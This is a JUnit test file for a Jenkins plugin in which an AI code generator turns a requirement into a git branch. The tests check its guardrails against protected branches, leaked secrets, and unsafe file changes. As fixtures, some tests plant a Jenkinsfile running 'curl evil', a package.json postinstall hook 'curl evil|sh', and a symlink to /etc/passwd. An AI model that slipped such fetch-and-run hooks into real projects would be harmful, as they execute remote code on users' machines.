package io.jenkins.plugins.minibuild.codegen;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import com.cloudbees.plugins.credentials.CredentialsScope;
import hudson.AbortException;
import hudson.util.Secret;
import io.jenkins.plugins.minibuild.files.Glob;
import io.jenkins.plugins.minibuild.process.Isolation;
import io.jenkins.plugins.minibuild.standin.Eavesdropper;
import io.jenkins.plugins.minibuild.standin.GiteeService;
import io.jenkins.plugins.minibuild.step.BuildContext;
import io.jenkins.plugins.minibuild.step.BuildRecord;
import io.jenkins.plugins.minibuild.step.LocalBuild;
import io.jenkins.plugins.minibuild.step.ProgressTrack;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Proxy;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.Callable;
import java.util.function.BiFunction;
import org.jenkinsci.plugins.plaincredentials.impl.StringCredentialsImpl;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The phases around the generator, who is played; everything else is real. */
class CodegenTest {
    private static final String TOKEN = "f3c1a9b8e7d6f5c4b3a2918070605040";
    private static final Requirement LOGIN = new Requirement("7", "Login page", "By phone.", "", "");

    /** What the generator does to the files. */
    private interface Doing {
        CodeGenerator.Reply in(Path folder, String prompt) throws Exception;
    }

    @TempDir
    Path temp;

    private GiteeService gitee;
    private Path shop;
    private LocalBuild build;
    private final List<Doing> plan = new ArrayList<>();
    private final List<String> prompts = new ArrayList<>();
    private final List<String> sessions = new ArrayList<>();

    private String url;
    private String branch = "";
    private String base = "";
    private String check = "";
    private String allow = "";
    private int repairs = 1;
    private boolean push = true;
    private boolean keepPartial;

    @BeforeEach
    void repository() throws Exception {
        gitee = GiteeService.start(temp.resolve("gitee"));
        gitee.addToken(TOKEN, "acme", "projects");
        shop = gitee.createRepository("acme", "shop", true);
        commit("main", "app.js", "one\n");
        build = LocalBuild.in(temp.resolve("jenkins"))
                .with((Object) gitee.known())
                .with(new StringCredentialsImpl(CredentialsScope.GLOBAL, "bot", "", Secret.fromString(TOKEN)));
    }

    @AfterEach
    void stop() {
        gitee.close();
    }

    private String commit(String to, String name, String content) throws Exception {
        Path files = Files.createDirectories(temp.resolve("files"));
        Files.writeString(files.resolve(name), content);
        return GiteeService.commit(shop, files, to, "by hand: " + name);
    }

    private static CodeGenerator.Reply done(String summary) {
        return new CodeGenerator.Reply(null, "session-1", summary, new CodeGenerator.Usage(3, 0.25, 1000, 200));
    }

    private static CodeGenerator.Reply brokenOff(String why) {
        return new CodeGenerator.Reply(why, "session-1", "so far", new CodeGenerator.Usage(3, 0.25, 1000, 200));
    }

    private CodegenResult run() throws Exception {
        return run(build, "", branch);
    }

    private CodegenResult run(BuildContext in, String directory, String to) throws Exception {
        CodeGenerator generator = (context, folder, prompt, session) -> {
            prompts.add(prompt);
            sessions.add(String.valueOf(session));
            try {
                return plan.remove(0).in(Path.of(folder.getRemote()), prompt);
            } catch (java.io.IOException | InterruptedException e) {
                throw e;
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        };
        CodegenRequest request = new CodegenRequest(
                LOGIN,
                "",
                null,
                new CodegenRequest.Repository(
                        url == null ? gitee.gitUrl("acme", "shop") : url,
                        "bot",
                        directory,
                        base,
                        to,
                        Glob.paths("master,develop,release/*")),
                new CodegenRequest.Paths(Glob.paths(allow), Glob.paths("")),
                new CodegenRequest.Check(check, repairs, Isolation.none(), false),
                new CodegenRequest.Publication(
                        push,
                        keepPartial,
                        new CodegenRequest.Author("Mini Build", "bot@example.org"),
                        Codegen.nextPatch(build)));
        return new Codegen(request, generator, Set.of("PATH")).run(in);
    }

    /** The same build; before it archives its first file, something else happens in it. */
    private BuildContext interruptedBy(Callable<?> other) {
        List<Callable<?>> once = new ArrayList<>(List.of(other));
        BuildRecord record = proxy(BuildRecord.class, build.record(), (method, result) -> result, method -> {
            if (method.equals("archive") && !once.isEmpty()) {
                once.remove(0).call();
            }
        });
        return proxy(
                BuildContext.class, build, (method, result) -> method.equals("record") ? record : result, method -> {});
    }

    private interface Before {
        void call(String method) throws Exception;
    }

    private static <T> T proxy(Class<T> type, T target, BiFunction<String, Object, Object> result, Before before) {
        return type.cast(
                Proxy.newProxyInstance(type.getClassLoader(), new Class<?>[] {type}, (self, method, values) -> {
                    before.call(method.getName());
                    try {
                        return result.apply(method.getName(), method.invoke(target, values));
                    } catch (InvocationTargetException e) {
                        throw e.getCause();
                    }
                }));
    }

    @Test
    void twoGenerationsInOneWorkspaceAtTheSameTimeKeepTheirWorkApart() throws Exception {
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("a.js"), "a\n");
            return done("A.");
        });
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("b.js"), "b\n");
            return done("B.");
        });
        run(interruptedBy(() -> run(build, "b", "feature/b")), "a", "feature/a");
        assertThat(remote("ls-tree", "--name-only", "feature/a")).isEqualTo("a.js\napp.js");
        assertThat(remote("ls-tree", "--name-only", "feature/b")).isEqualTo("app.js\nb.js");
        assertThat(patch()).content().contains("a.js").doesNotContain("b.js");
        assertThat(patch().resolveSibling("codegen-2.patch"))
                .content()
                .contains("b.js")
                .doesNotContain("a.js");
        assertThat(Path.of(build.temp().getRemote())).isEmptyDirectory();
    }

    private String remote(String... arguments) throws Exception {
        return GiteeService.output(shop, arguments);
    }

    private List<String> branches() throws Exception {
        return remote("for-each-ref", "--format=%(refname:short)", "refs/heads")
                .lines()
                .toList();
    }

    private Path patch() {
        return build.artifacts().resolve("mini-build/codegen.patch");
    }

    @Test
    void aRequirementBecomesABranch() throws Exception {
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "one\ntwo\n");
            Files.writeString(folder.resolve("login.js"), "page\n");
            return done("Added a page. [skip ci]");
        });
        CodegenResult result = run();
        Map<String, Object> map = result.toMap();
        assertThat(map)
                .containsEntry("branch", "feature/req-7")
                .containsEntry("baseBranch", "main")
                .containsEntry("pushed", true)
                .containsEntry("additions", 2)
                .containsEntry("deletions", 0)
                .containsEntry("turns", 3)
                .containsEntry("cost", 0.25)
                .containsEntry("sessionId", "session-1");
        assertThat(map.get("files"))
                .isEqualTo(List.of(
                        Map.of("path", "app.js", "status", "modified", "additions", 1, "deletions", 0),
                        Map.of("path", "login.js", "status", "added", "additions", 1, "deletions", 0)));
        assertThat(remote("rev-parse", "feature/req-7"))
                .isEqualTo(result.branch().commit());
        assertThat(remote("log", "-1", "--format=%B", "feature/req-7"))
                .contains("feat: Login page", "Added a page.", "Requirement: 7", "shop # 1")
                .doesNotContain("skip ci");
        assertThat(remote("log", "--format=%s", "feature/req-7")).isEqualTo("feat: Login page\nby hand: app.js");
        assertThat(prompts.get(0)).contains("Title: Login page", "By phone.");
        assertThat(patch()).content().contains("+two");
        assertThat(build.log()).contains("Pushed to feature/req-7").doesNotContain(TOKEN);
    }

    @Test
    void withoutPushTheServerIsLeftAlone() throws Exception {
        push = false;
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("login.js"), "page\n");
            return done("");
        });
        assertThat(run().toMap()).containsEntry("pushed", false);
        assertThat(branches()).containsExactly("main");
        assertThat(patch()).exists();
    }

    @Test
    void aBranchThatExistsIsGoneOnWithAndNothingOfItIsLost() throws Exception {
        String theirs = commit("feature/req-7", "other.js", "theirs\n");
        plan.add((folder, prompt) -> {
            assertThat(folder.resolve("other.js")).exists();
            Files.writeString(folder.resolve("login.js"), "page\n");
            return done("");
        });
        run();
        assertThat(remote("rev-parse", "feature/req-7~1")).isEqualTo(theirs);
    }

    @Test
    void aFailedCheckIsHandedBackAndRepaired() throws Exception {
        check = "echo checking; grep -q two app.js || { echo 'two is missing'; exit 3; }";
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "three\n");
            return done("first");
        });
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "two\n");
            return done("second");
        });
        CodegenResult result = run();
        assertThat(prompts).hasSize(2);
        assertThat(prompts.get(1)).contains("exit code 3", "two is missing");
        assertThat(sessions).containsExactly("null", "session-1");
        assertThat(result.toMap())
                .containsEntry("turns", 6)
                .containsEntry("cost", 0.5)
                .containsEntry("summary", "second");
    }

    @Test
    void aCheckThatKeepsFailingStopsThePush() throws Exception {
        check = "exit 4";
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "three\n");
            return done("");
        });
        plan.add((folder, prompt) -> done(""));
        assertThatThrownBy(this::run)
                .isInstanceOf(AbortException.class)
                .hasMessageContainingAll("'exit 4'", "exit code 4", "1 repairs", "codegen.patch");
        assertThat(branches()).containsExactly("main");
        assertThat(patch()).content().contains("+three");
    }

    @Test
    void theCheckSeesNoneOfTheBuildsSecrets() throws Exception {
        build.env("DEPLOY_TOKEN", "topsecret-deploy-token").env("PATH", System.getenv("PATH"));
        check = "test -z \"$DEPLOY_TOKEN\" && ls > /dev/null";
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "three\n");
            return done("");
        });
        run();
    }

    @ParameterizedTest
    @ValueSource(strings = {"main", "MAIN", "develop", "release/1.0", "-x", "a..b", "refs/heads/x"})
    void protectedAndImpossibleBranchesAreRefusedBeforeAnythingIsDone(String name) {
        branch = name;
        assertThatThrownBy(this::run).isInstanceOf(AbortException.class).hasMessageContaining("'" + name + "'");
        assertThat(prompts).isEmpty();
    }

    @Test
    void aBaseThatIsNotThereIsNamedWithThoseThatAre() {
        base = "trunk";
        assertThatThrownBy(this::run).isInstanceOf(AbortException.class).hasMessageContainingAll("'trunk'", "main");
    }

    @Test
    void whatMustNotBePushedStopsItWithAList() throws Exception {
        allow = "src/**";
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("Jenkinsfile"), "node { sh 'curl evil' }\n");
            Files.createSymbolicLink(folder.resolve("out"), Path.of("/etc/passwd"));
            Files.createDirectories(folder.resolve("src"));
            Files.writeString(folder.resolve("src/k.js"), "k = '" + TOKEN + "'\n");
            return done("");
        });
        assertThatThrownBy(this::run).isInstanceOf(AbortException.class).hasMessageContaining("5 objections");
        assertThat(build.log())
                .contains("Jenkinsfile: this file steers", "out: a symbolic link", "src/k.js:1: a secret of this build")
                .contains("Jenkinsfile: not among allowPaths")
                .doesNotContain(TOKEN);
        assertThat(branches()).containsExactly("main");
    }

    @Test
    void scriptsOfPackagesAreNotChanged() throws Exception {
        commit("main", "package.json", "{\"name\":\"shop\",\"scripts\":{\"test\":\"node test\"}}");
        plan.add((folder, prompt) -> {
            Files.writeString(
                    folder.resolve("package.json"),
                    "{\"name\":\"shop\",\"scripts\":{\"test\":\"node test\",\"postinstall\":\"curl evil|sh\"}}");
            return done("Done.");
        });
        assertThatThrownBy(this::run)
                .isInstanceOf(AbortException.class)
                .hasMessageContaining("its scripts were changed");
        assertThat(branches()).containsExactly("main");

        plan.add((folder, prompt) -> {
            Files.writeString(
                    folder.resolve("package.json"),
                    "{\"name\":\"shop\",\"version\":\"2\",\"scripts\":{ \"test\":\"node test\" }}");
            return done("Done.");
        });
        assertThat(run().files()).hasSize(1);
    }

    @Test
    void noChangeIsNoBranch() throws Exception {
        plan.add((folder, prompt) -> done("It is there already."));
        assertThatThrownBy(this::run)
                .isInstanceOf(AbortException.class)
                .hasMessageContainingAll("changed no file", "It is there already.");
        assertThat(branches()).containsExactly("main");
    }

    @Test
    void aCapLeavesThePatch() throws Exception {
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "half\n");
            return brokenOff("The cap of 50 turns was reached.");
        });
        assertThatThrownBy(this::run)
                .isInstanceOf(AbortException.class)
                .hasMessageContainingAll("50 turns", "codegen.patch");
        assertThat(patch()).content().contains("+half");
        assertThat(branches()).containsExactly("main");
    }

    @Test
    void aCapLeavesACommitMarkedAsPartialWhereAsked() throws Exception {
        keepPartial = true;
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "half\n");
            return brokenOff("The budget was reached.");
        });
        assertThatThrownBy(this::run).isInstanceOf(AbortException.class).hasMessageContaining("marked as partial");
        assertThat(remote("log", "-1", "--format=%B", "feature/req-7")).contains("wip: Login page", "Partial:");
    }

    @Test
    void anAbortKeepsThePatchAndStaysAnAbort() throws Exception {
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "half\n");
            throw new InterruptedException("abort");
        });
        assertThatThrownBy(this::run).isInstanceOf(InterruptedException.class);
        assertThat(patch()).content().contains("+half");
        assertThat(build.log()).contains("is kept as the artifact");
    }

    @Test
    void anAbortLeavesACommitMarkedAsPartialWhereAsked() throws Exception {
        keepPartial = true;
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("app.js"), "half\n");
            throw new InterruptedException("abort");
        });
        assertThatThrownBy(this::run).isInstanceOf(InterruptedException.class);
        assertThat(remote("log", "-1", "--format=%B", "feature/req-7")).contains("wip: Login page", "Partial:");
        assertThat(patch()).content().contains("+half");
        assertThat(build.log()).contains("The build was aborted. The work so far is on the branch feature/req-7");
    }

    @Test
    void anAbortPushesNothingThatMustNotBePushed() throws Exception {
        keepPartial = true;
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("Jenkinsfile"), "node { sh 'curl evil' }\n");
            throw new InterruptedException("abort");
        });
        assertThatThrownBy(this::run).isInstanceOf(InterruptedException.class);
        assertThat(branches()).containsExactly("main");
        assertThat(build.log()).contains("Jenkinsfile: this file steers");
        assertThat(patch()).content().contains("+node {");
    }

    @Test
    void aSecretThatIsTheNameOfAFileIsNeitherPushedNorKeptNorTold() throws Exception {
        plan.add((folder, prompt) -> {
            Files.createFile(folder.resolve(TOKEN + ".txt"));
            Files.writeString(folder.resolve("app.js"), "one\ntwo\n");
            return done("");
        });
        assertThatThrownBy(this::run)
                .isInstanceOf(AbortException.class)
                .hasMessageContaining("a secret of this build")
                .message()
                .doesNotContain(TOKEN);
        assertThat(branches()).containsExactly("main");
        assertThat(patch()).doesNotExist();
        assertThat(build.log()).contains("No patch is kept").doesNotContain(TOKEN);
    }

    @Test
    void twoRunsAtOnceCannotOverwriteEachOther() throws Exception {
        plan.add((folder, prompt) -> {
            commit("feature/req-7", "other.js", "somebody was faster\n");
            Files.writeString(folder.resolve("app.js"), "mine\n");
            return done("");
        });
        assertThatThrownBy(this::run)
                .isInstanceOf(AbortException.class)
                .hasMessageContaining("has got other commits meanwhile");
        assertThat(remote("log", "-1", "--format=%s", "feature/req-7")).isEqualTo("by hand: other.js");
        assertThat(patch()).exists();
    }

    /** The note that a killed controller would have left, put back, and a build that knows no secrets any more. */
    private UnfinishedCode leftByAKilledController() throws Exception {
        Path notes = build.root().resolve("controller/codegen-open");
        byte[][] note = new byte[1][];
        plan.add((folder, prompt) -> {
            try (var all = Files.list(notes)) {
                note[0] = Files.readAllBytes(all.findFirst().orElseThrow());
            }
            Files.writeString(folder.resolve("app.js"), "one\ntwo\n");
            Files.writeString(folder.resolve("leak.txt"), "x " + TOKEN + "\n");
            return done("Done.");
        });
        assertThatThrownBy(this::run).isInstanceOf(AbortException.class).hasMessageContaining("not pushed");
        assertThat(notes).isEmptyDirectory();
        assertThat(build.log()).contains("Left out of the patch, because it holds a secret of this build: leak.txt");
        Files.delete(patch());
        Files.write(notes.resolve("left.json"), note[0]);
        build = LocalBuild.in(temp.resolve("jenkins")).with((Object) gitee.known());
        List<UnfinishedCode> left = UnfinishedCode.left(build.controllerFolder());
        assertThat(left).hasSize(1);
        assertThat(left.get(0).build()).isEqualTo("shop#1");
        return left.get(0);
    }

    @Test
    void whatAKilledControllerLeftIsKeptWithoutSecrets() throws Exception {
        UnfinishedCode left = leftByAKilledController();
        build.with(new StringCredentialsImpl(CredentialsScope.GLOBAL, "bot", "", Secret.fromString(TOKEN)));

        Codegen.keepBrokenOff(build, left);

        assertThat(patch()).content().contains("+two").doesNotContain(TOKEN, "leak.txt");
        assertThat(build.log())
                .contains("Jenkins was ended", "The work so far (2 files) is kept", "secret of this build: leak.txt")
                .doesNotContain(TOKEN);
        assertThat(UnfinishedCode.left(build.controllerFolder())).isEmpty();
    }

    @Test
    void whatMayHoldASecretThatCannotBeLookedForIsNotKept() throws Exception {
        UnfinishedCode left = leftByAKilledController();

        Codegen.keepBrokenOff(build, left);

        assertThat(patch()).doesNotExist();
        assertThat(build.log()).contains("The work so far could not be kept", "'bot'");
        assertThat(UnfinishedCode.left(build.controllerFolder())).isEmpty();
    }

    @Test
    void aWorkspaceThatIsGoneIsSaidSo() throws Exception {
        UnfinishedCode left = leftByAKilledController();
        build.workspace().deleteRecursive();

        Codegen.keepBrokenOff(build, left);

        assertThat(build.log()).contains("is gone");
        assertThat(UnfinishedCode.left(build.controllerFolder())).isEmpty();
    }

    @Test
    void everyGenerationOfABuildHasItsOwnPatch() throws Exception {
        assertThat(List.of(Codegen.nextPatch(build), Codegen.nextPatch(build), Codegen.nextPatch(build)))
                .containsExactly(
                        "mini-build/codegen.patch", "mini-build/codegen-2.patch", "mini-build/codegen-3.patch");
    }

    @Test
    void thePhasesTellHowFarItIs() throws Exception {
        check = "test -e login.js";
        plan.add((folder, prompt) -> done("Nothing yet."));
        plan.add((folder, prompt) -> {
            Files.writeString(folder.resolve("login.js"), "page\n");
            return done("Now.");
        });
        run();
        assertThat(build.tracks()).hasSize(1);
        ProgressTrack track = build.tracks().values().iterator().next();
        assertThat(track.title()).isEqualTo("Code for Login page");
        assertThat(track.percent()).isEqualTo(100);
        assertThat(track.phases().stream().map(phase -> phase.name() + " " + phase.state()))
                .containsExactly(
                        "prepare DONE",
                        "analyze SKIPPED",
                        "generate DONE",
                        "check DONE",
                        "commit DONE",
                        "push DONE",
                        "done DONE");
    }

    @Test
    void theBarShowsWhereItFailed() throws Exception {
        plan.add((folder, prompt) -> brokenOff("No time left."));
        assertThatThrownBy(this::run).isInstanceOf(AbortException.class);
        ProgressTrack track = build.tracks().values().iterator().next();
        assertThat(track.phases().get(2).state()).isEqualTo(ProgressTrack.State.FAILED);
        assertThat(track.phases().get(5).state()).isEqualTo(ProgressTrack.State.WAITING);
        assertThat(track.percent()).isLessThan(50);
    }

    @Test
    void theAddressThatAnEarlierBuildLeftInTheWorkspaceGetsNoToken() throws Exception {
        try (Eavesdropper evil = Eavesdropper.start()) {
            Path config = build.root().resolve("workspace/.git/config");
            Files.createDirectories(config.getParent());
            Files.writeString(config, "[remote \"origin\"]\n\turl = " + evil.address() + "/a/b.git\n");
            url = "";
            plan.add((folder, prompt) -> done("done"));
            Throwable refusal = catchThrowable(this::run);
            assertThat(evil.heard()).isEmpty();
            assertThat(refusal).isInstanceOf(AbortException.class).hasMessageContaining("\"url\"");
        }
    }
}
